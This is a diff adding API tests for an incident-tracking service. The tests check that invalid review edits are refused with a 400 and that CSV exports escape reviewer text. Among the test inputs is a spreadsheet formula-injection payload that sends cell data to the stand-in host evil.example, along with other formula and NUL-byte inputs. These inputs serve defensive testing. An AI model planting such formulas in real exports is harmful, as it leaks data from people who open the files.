@@ -156,6 +156,95 @@ for (const engine of testEngines()) {
       assert.equal((await guarded.request('/api/openapi.json')).status, 200);
     });
 
+    // [fields, the field a 400 names]; each edit is refused and changes nothing
+    const badEdits: [Record<string, unknown>, string][] = [
+      [{ country: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }, 'fields.country'],
+      [{ country: 'iq' }, 'fields.country'],
+      [{ country: 'IRQ' }, 'fields.country'],
+      [{ country: '' }, 'fields.country'],
+      [{ type: '=1+1' }, 'fields.type'],
+      [{ type: 'Protest' }, 'fields.type'],
+      [{ weapon: 'laser' }, 'fields.weapon'],
+      [{ target: '@SUM(A1)' }, 'fields.target'],
+      [{ killed: -1 }, 'fields.killed'],
+      [{ injured: 1.5 }, 'fields.injured'],
+      [{ munitions: 2 ** 31 }, 'fields.munitions'],
+      [{ killed: '3' }, 'fields.killed'],
+      [{ date: '2024-02-30' }, 'fields.date'],
+      [{ date: '0000' }, 'fields.date'],
+      [{ date: '=TODAY()' }, 'fields.date'],
+      [{ lat: 91 }, 'fields.lat'],
+      [{ lon: '-1' }, 'fields.lon'],
+      [{ geo_precision: 4 }, 'fields.geo_precision'],
+      [{ intercepted: 'yes' }, 'fields.intercepted'],
+      [{ place: '' }, 'fields.place'],
+      [{ place: 'x'.repeat(201) }, 'fields.place'],
+      [{ actor: 'Kata\u0000ib' }, 'fields.actor'],
+      [{ admin1: 'line\nbreak' }, 'fields.admin1'],
+      [{ source_count: 9 }, 'fields.source_count'],
+    ];
+    for (const [fields, param] of badEdits) {
+      it(`an edit outside the field's domain is a 400 naming ${param}: ${JSON.stringify(fields).slice(0, 60)}`, async () => {
+        const id = byPlace('Ain al-Asad Air Base').id;
+        const before = await store.getIncident(id);
+        const r = await app.request(
+          `/api/incidents/${encodeURIComponent(id)}/review`,
+          json({ action: 'edit', who: 'huda', fields }, TOKEN),
+        );
+        assert.equal(r.status, 400);
+        const body = await r.json();
+        assert.equal(body.error.code, 'invalid_review');
+        assert.deepEqual(
+          body.error.details.map((d: { param: string }) => d.param),
+          [param],
+        );
+        assert.deepEqual(await store.getIncident(id), before);
+      });
+    }
+
+    it('a NUL in who or an id is a 400, not a 500', async () => {
+      const id = byPlace('Ain al-Asad Air Base').id;
+      const who = await app.request(
+        `/api/incidents/${encodeURIComponent(id)}/review`,
+        json({ action: 'confirm', who: 'a\u0000b' }, TOKEN),
+      );
+      assert.equal(who.status, 400);
+      assert.equal((await who.json()).error.details[0].param, 'who');
+      const path = await app.request('/api/incidents/a%00b/review', json({ action: 'confirm' }, TOKEN));
+      assert.equal(path.status, 400);
+      assert.equal((await path.json()).error.details[0].param, 'id');
+      const other = await app.request(
+        `/api/incidents/${encodeURIComponent(id)}/merge`,
+        json({ other: 'x'.repeat(5000) }, TOKEN),
+      );
+      assert.equal(other.status, 400);
+      assert.equal((await other.json()).error.details[0].param, 'other');
+    });
+
+    it("a reviewer's free text reaches the CSV guarded, codes stay codes", async () => {
+      const id = byPlace('Ain al-Asad Air Base').id;
+      const r = await app.request(
+        `/api/incidents/${encodeURIComponent(id)}/review`,
+        json(
+          {
+            action: 'edit',
+            who: 'huda',
+            fields: { actor: '=HYPERLINK("x")', place: '+Camp', admin1: '@A1' },
+          },
+          TOKEN,
+        ),
+      );
+      assert.equal(r.status, 200, await r.clone().text());
+      const csv = await (await app.request('/api/incidents.csv?limit=500')).text();
+      const line = csv.split('\n').find((l) => l.includes(`rasd:${id}`)) ?? '';
+      assert.ok(line.includes(`"'=HYPERLINK(""x"")"`), line);
+      assert.ok(line.includes(",'+Camp,"), line);
+      assert.ok(line.includes(",'@A1,"), line);
+      assert.ok(line.startsWith('IRQ'), line);
+      assert.ok(!/,[=+@]/.test(line), line);
+      await app.request(`/api/incidents/${encodeURIComponent(id)}/review`, json({ action: 'reset' }, TOKEN));
+    });
+
     it('stats per day on request', async () => {
       const s = await (await app.request('/api/stats?_days=1')).json();
       assert.ok(Array.isArray(s.per_day) && s.per_day.length > 0);
